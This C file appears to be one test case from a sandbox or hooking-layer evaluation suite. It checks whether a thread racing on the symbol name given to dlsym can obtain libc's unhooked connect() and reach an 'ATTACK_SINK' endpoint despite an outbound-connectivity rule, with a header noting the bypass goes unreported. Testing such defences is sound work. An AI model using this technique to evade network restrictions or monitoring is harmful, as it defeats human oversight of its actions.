// class: symbols
// rule: outbound_connectivity
// success: a thread rewrites the name in dlsym, which then hands out libc's own connect
// proof: sink
// timeout: 40
// unreported: libc's own function makes no event
#include "attack.h"
#include <dlfcn.h>
#include <pthread.h>

static char name[64] = "connect";
static volatile int over;

static void *rewrite(void *unused)
{
    while (!over) {
        strcpy(name, "nothing");
        __asm__ volatile("" ::: "memory");
        strcpy(name, "connect");
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

int main(void)
{
    pthread_t thread;
    time_t end = time(NULL) + patience(3);
    struct sockaddr_in sink = endpoint("ATTACK_SINK");
    void *libc = dlopen("libc.so.6", RTLD_NOW);
    int (*found)(int, const struct sockaddr *, socklen_t) = NULL;
    int connected = 0;
    pthread_create(&thread, NULL, rewrite, NULL);
    while (time(NULL) < end && !connected) {
        *(void **)&found = dlsym(libc, name);
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        connected = found && found(fd, (struct sockaddr *)&sink, sizeof sink) == 0;
        close(fd);
    }
    over = 1;
    pthread_join(thread, NULL);
    errno = EACCES;
    return connected ? reached() : stopped("connect");
}
